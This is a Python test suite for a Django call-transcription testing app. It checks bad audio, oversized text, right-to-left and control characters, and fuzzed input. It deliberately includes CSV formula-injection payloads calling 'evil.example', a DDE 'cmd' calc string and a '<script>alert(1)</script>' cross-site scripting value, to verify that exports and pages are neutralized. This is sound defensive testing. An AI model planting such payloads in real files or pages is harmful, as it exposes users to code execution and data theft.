"""Bad input: recordings that are not audio, truncated or empty; lines timed outside their recording; enormous
expected texts; control characters and right-to-left text; CSV cells that a spreadsheet would run as formulas;
and arbitrary text posted as an expected text. None of it is a 5xx, and none of it is half-imported."""

import csv
import io
import json
from types import SimpleNamespace

import numpy as np
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from oncore import audio
from oncore.calls.models import Assistant, Call, Line
from oncore.csv import FORMULA_START
from oncore.transcribers.models import Transcriber
from tests.fixtures import assert_error, make_call
from transcriber_tests import actions
from transcriber_tests.actions import runs as run_actions
from transcriber_tests.models import Flag, Score
from transcriber_tests.work import tasks
from transcriber_tests.work import tasks as run_tasks

pytestmark = pytest.mark.django_db

SAID = "Siobhan, table for four at eight thirty"


# ---------------------------------------------------------------- recordings that are not usable audio


def calls_file(recording="ext-1.flac"):
    data = {
        "format": "oncore-calls/1",
        "tenants": [{"slug": "bistro", "name": "Bistro"}],
        "assistants": [{"tenant": "bistro", "name": "Front desk"}],
        "calls": [
            {
                "external_id": "ext-1",
                "tenant": "bistro",
                "assistant": "Front desk",
                "started_at": "2025-03-01T18:00:00+01:00",
                "recording": recording,
                "live_transcriber": {"name": "Old STT"},
                "lines": [{"speaker": "caller", "text": "Table for two.", "start_s": 0.2, "end_s": 1.4}],
            }
        ],
    }
    return json.dumps(data).encode()


def flac_bytes(tmp_path, seconds=3.0) -> bytes:
    path = tmp_path / "good.flac"
    t = np.arange(int(8000 * seconds)) / 8000
    audio.write_recording(path, np.stack([np.sin(t * 2000), np.sin(t * 3000)], axis=1) * 0.2, 8000)
    return path.read_bytes()


BAD_RECORDINGS = {
    "not-audio": (
        lambda tmp: b"%PDF-1.4 this is a scanned invoice, not a recording\n" * 20,
        "not readable audio",
    ),
    "truncated-flac": (lambda tmp: flac_bytes(tmp)[: len(flac_bytes(tmp)) // 2], "truncated"),
    "zero-length": (lambda tmp: b"", "0 bytes"),
}


def nothing_imported():
    return not (Call.objects.exists() or Line.objects.exists() or Assistant.objects.exists())


@pytest.mark.parametrize("kind", BAD_RECORDINGS)
def test_it_refuses_an_api_import_whose_recording_is_not_usable_audio_and_imports_nothing(
    api, org, tmp_path, kind
):
    make, reason = BAD_RECORDINGS[kind]
    recording = SimpleUploadedFile("ext-1.flac", make(tmp_path), content_type="audio/flac")
    response = api.upload(
        "/calls/import", {"file": SimpleUploadedFile("calls.json", calls_file()), "recordings": [recording]}
    )
    error = assert_error(response, 400, "import_format_error")
    assert "ext-1" in error["message"] and reason in error["message"], error["message"]
    assert nothing_imported() and not org.tenants.filter(slug="bistro").exists()


@pytest.mark.parametrize("kind", BAD_RECORDINGS)
def test_it_refuses_a_command_line_import_whose_recording_is_not_usable_audio(org, tmp_path, kind):
    """The dashboard has no import page: calls come in through the API or `manage.py import_calls`."""
    make, reason = BAD_RECORDINGS[kind]
    (tmp_path / "ext-1.flac").write_bytes(make(tmp_path))
    (tmp_path / "calls.json").write_bytes(calls_file())
    with pytest.raises(CommandError) as refused:
        call_command("import_calls", str(tmp_path / "calls.json"), "--org", org.slug, stdout=io.StringIO())
    message = str(refused.value)
    assert message.startswith("Nothing was imported: ") and "ext-1" in message and reason in message, message
    assert nothing_imported()


# ---------------------------------------------------------------- a line timed outside its recording


def test_it_says_a_line_timed_outside_its_recording_cannot_be_flagged(admin_client, api, recorded_call):
    outside = Line.objects.create(
        call=recorded_call, position=99, speaker="caller", text="hello?", start_s=60.0, end_s=62.5
    )

    page = admin_client.get(reverse("tt:call", args=[recorded_call.pk])).content.decode()
    row = page[page.index(f'id="line-{outside.pk}"') :]
    row = row[: row.index("</li>")]
    assert "Cannot be flagged: Its timing lies outside the recording." in row and "Flag this line" not in row

    detail = api.get(f"/calls/{recorded_call.pk}").json()
    found = next(
        ln
        for key in detail
        if isinstance(detail[key], list)
        for ln in detail[key]
        if isinstance(ln, dict) and ln.get("id") == outside.pk
    )
    assert found["flaggable"] is False and found["not_flaggable"]["code"] == "recording_unavailable"

    error = assert_error(
        api.post("/flags", {"line_id": outside.pk, "expected_text": "hello"}), 409, "recording_unavailable"
    )
    assert "60.00–62.50 s lies outside the recording" in error["message"]
    response = admin_client.post(reverse("tt:flag_line", args=[outside.pk]), {"expected_text": "hello"})
    assert response.status_code == 422 and "lies outside the recording" in response.content.decode()
    assert not Flag.objects.exists()


# ---------------------------------------------------------------- enormous expected texts


def test_it_refuses_a_100_kb_expected_text_with_a_clear_message_and_scores_one_at_the_limit(
    admin_client, api, recorded_call, org, make_transcriber
):
    huge = ("table for four at eight thirty " * 3500)[:100_000]
    line = recorded_call.lines.get(position=0)
    error = assert_error(
        api.post("/flags", {"line_id": line.pk, "expected_text": huge}), 422, "validation_error"
    )
    assert "expected_text" in error["message"] and "5000" in error["message"]
    page = admin_client.post(reverse("tt:flag_line", args=[line.pk]), {"expected_text": huge})
    assert page.status_code == 422
    assert "Ensure this value has at most 5000 characters (it has 100000)." in page.content.decode()
    assert not Flag.objects.exists()

    # At the limit it is accepted and scored, whatever it costs the aligner.
    bank = actions.do_create_bank(org, name="Long", controls_per_flag=0)
    actions.do_add_candidate(bank, make_transcriber("good", SAID), confirmed=True)
    longest = huge[:5000]
    created = api.post("/flags", {"line_id": line.pk, "expected_text": longest, "bank_id": bank.pk})
    assert created.status_code == 201, created.content
    tasks.drain()
    score = Score.objects.get(source=Score.CANDIDATE)
    assert not score.failed and not score.match and score.reference_words == len(longest.split())
    assert admin_client.get(reverse("tt:turn_table", args=[bank.pk])).status_code == 200


# ---------------------------------------------------------------- control characters and right-to-left text

ODD_EXPECTED = (
    "Siobhan\x07 table for \u202efour\u202c at eight thirty, \u05e9\u05d5\u05dc\u05d7\u05df \u200f<b>8</b>"
)
ODD_NOTE = "caller said \u05e9\u05dc\u05d5\u05dd\x1b[31m <script>alert(1)</script>"
ODD_TAGS = ["\u05e2\u05d1\u05e8\u05d9\u05ea", "rtl\u202eevil", "<i>x</i>"]


def csv_rows(response) -> list[list[str]]:
    content = (
        b"".join(response.streaming_content).decode("utf-8")
        if response.streaming
        else response.content.decode()
    )
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:])))


def test_it_stores_scores_shows_escaped_and_exports_control_characters_and_right_to_left_text(
    admin_client, api, org, recorded_call, make_transcriber
):
    bank = actions.do_create_bank(org, name="\u05e2\u05d1\u05e8\u05d9\u05ea RTL", controls_per_flag=0)
    actions.do_add_candidate(
        bank, make_transcriber("good", "Siobhan table for four at eight thirty"), confirmed=True
    )
    line, other = recorded_call.lines.get(position=0), recorded_call.lines.get(position=2)
    response = admin_client.post(
        reverse("tt:flag_line", args=[line.pk]),
        {
            "expected_text": ODD_EXPECTED,
            "note": ODD_NOTE,
            "custom_tags": ", ".join(ODD_TAGS),
            "bank": bank.pk,
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    created = api.post(
        "/flags",
        {
            "line_id": other.pk,
            "expected_text": ODD_EXPECTED,
            "note": ODD_NOTE,
            "tags": ODD_TAGS,
            "bank_id": bank.pk,
        },
    )
    assert created.status_code == 201, created.content
    assert created.json()["expected_text"] == ODD_EXPECTED and created.json()["note"] == ODD_NOTE
    tasks.drain()

    for flag in Flag.objects.all():
        assert (flag.expected_text, flag.note) == (ODD_EXPECTED, ODD_NOTE)  # stored as typed
        assert {"\u05e2\u05d1\u05e8\u05d9\u05ea", "<i>x</i>"} <= set(flag.tag_list)
        scores = flag.scores.filter(source=Score.CANDIDATE)
        assert scores.count() == 1 and not scores.get().failed and scores.get().wer is not None  # scored

    pages = [
        admin_client.get(reverse("tt:call", args=[recorded_call.pk])),
        admin_client.get(reverse("tt:turn_table", args=[bank.pk])),
        admin_client.get(reverse("tt:bank", args=[bank.pk])),
    ]
    for page in pages:
        assert page.status_code == 200
        html = page.content.decode()
        assert "<script>alert(1)</script>" not in html and "<b>8</b>" not in html and "<i>x</i>" not in html
    call_page = pages[0].content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in call_page and "&lt;b&gt;8&lt;/b&gt;" in call_page
    assert "\u05e9\u05d5\u05dc\u05d7\u05df" in call_page and "&lt;i&gt;x&lt;/i&gt;" in call_page

    for export in (
        admin_client.get(reverse("tt:export_turns", args=[bank.pk])),
        api.get(f"/banks/{bank.pk}/turns.csv"),
    ):
        rows = csv_rows(export)
        header, body = rows[0], rows[1:]
        flagged = [dict(zip(header, r, strict=True)) for r in body if r[header.index("item")] == "flag"]
        assert {r["expected_text"] for r in flagged} == {
            ODD_EXPECTED
        }  # exported as stored, control chars too
        assert all("\u05e2\u05d1\u05e8\u05d9\u05ea" in r["tags"] for r in flagged)
    assert csv_rows(admin_client.get(reverse("tt:export_results", args=[bank.pk])))[1][0] == bank.name


# ---------------------------------------------------------------- CSV formula injection

FORMULAS = {
    "live": ['=HYPERLINK("http://evil.example","x")', "+44 20 7946 0000", "-1+1 cmd", "@SUM(A1:A9)"],
    "candidate": "=cmd|' /C calc'!A0 table",
    "expected": "@SUM(1+1) table for four",
    "bank": '=IMPORTXML("http://evil.example")',
    "transcriber": "+Evil STT",
}


def assert_no_formula_cells(rows, where):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"{where}: {cell!r} would run as a formula"


def test_it_neutralizes_formula_cells_in_the_results_turn_table_and_run_line_exports(
    admin_client, api, org, tenant, tmp_path, stt_server, monkeypatch
):
    monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
    live = Transcriber.objects.create(
        slug="live",
        provider=Transcriber.GENERIC,
        model="live",
        display_name="-Live STT",
        api_key_env="ONCORE_TEST_STT_KEY",
        options={"url": f"{stt_server.url}/stt/live", "auth": "bearer", "json_path": "result.transcript"},
    )
    stt_server.texts["live"] = "@live replay"
    evil = Transcriber.objects.create(
        slug="evil",
        provider=Transcriber.GENERIC,
        model="evil",
        display_name=FORMULAS["transcriber"],
        price_per_minute="0.006",
        api_key_env="ONCORE_TEST_STT_KEY",
        options={"url": f"{stt_server.url}/stt/evil", "auth": "bearer", "json_path": "result.transcript"},
    )
    stt_server.texts["evil"] = FORMULAS["candidate"]
    call = make_call(tenant, live, caller_texts=FORMULAS["live"])
    bank = actions.do_create_bank(org, name=FORMULAS["bank"], controls_per_flag=1)
    actions.do_add_candidate(bank, evil, confirmed=True)
    actions.do_flag_line(call.lines.get(position=0), FORMULAS["expected"], bank=bank, tags=["=tag"])
    tasks.drain()
    run = run_actions.do_start_run(bank, [call.pk], candidate=evil, confirmed=True)
    assert run_tasks.drain_run(run.pk, max_seconds=60) == "done"

    exports = {
        "results (dashboard)": admin_client.get(reverse("tt:export_results", args=[bank.pk])),
        "results (API)": api.get(f"/banks/{bank.pk}/results.csv"),
        "turns (dashboard)": admin_client.get(reverse("tt:export_turns", args=[bank.pk])),
        "turns (API)": api.get(f"/banks/{bank.pk}/turns.csv"),
        "run lines (dashboard)": admin_client.get(reverse("runs:export", args=[run.pk])),
        "run lines (API)": api.get(f"/runs/{run.pk}/lines.csv"),
    }
    for where, response in exports.items():
        assert response.status_code == 200, where
        rows = csv_rows(response)
        assert_no_formula_cells(rows, where)
        cells = {cell for row in rows for cell in row}
        if where.startswith("results"):
            assert {"'" + FORMULAS["bank"], "'" + FORMULAS["transcriber"]} <= cells
        if where.startswith("turns"):
            assert {
                "'" + FORMULAS["expected"],
                "'" + FORMULAS["candidate"],
                "'=tag",
                "'" + FORMULAS["live"][0],
            } <= cells
        if where.startswith("run lines"):
            assert {"'" + FORMULAS["candidate"]} | {"'" + text for text in FORMULAS["live"]} <= cells
    # Only the export is defused: the stored text and the pages keep what was typed.
    assert Flag.objects.get().expected_text == FORMULAS["expected"]


# ---------------------------------------------------------------- arbitrary expected texts through the API

TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)),  # lone surrogates cannot travel as UTF-8 JSON
    max_size=300,
) | st.sampled_from(["", " ", "\x00", "\u202e\u200f", "\U0001f600 table", "'", "--", "\ufeff", "\r\n\t"])


@pytest.fixture
def fuzz_target(org, recorded_call):
    bank = actions.do_create_bank(org, name="Fuzz", controls_per_flag=0)  # no candidates: the live is scored
    return SimpleNamespace(bank=bank, line=recorded_call.lines.get(position=0))


@hypothesis_settings(
    max_examples=60,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(expected=TEXT, note=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=50))
def test_it_never_answers_5xx_to_an_arbitrary_expected_text(api, fuzz_target, expected, note):
    response = api.post(
        "/flags",
        {
            "line_id": fuzz_target.line.pk,
            "expected_text": expected,
            "bank_id": fuzz_target.bank.pk,
            "note": note,
            "tags": [note[:50]],
        },
    )
    assert response.status_code < 500, (expected, response.content)
    if response.status_code == 201:
        flag = Flag.objects.get(pk=response.json()["id"])
        assert flag.expected_text == expected.strip() and flag.scores.filter(source=Score.LIVE).count() == 1
        assert api.delete(f"/flags/{flag.pk}").status_code == 204
    else:
        assert response.status_code in (400, 422), response.content
        assert response.json()["error"]["code"] in ("expected_text_empty", "validation_error")
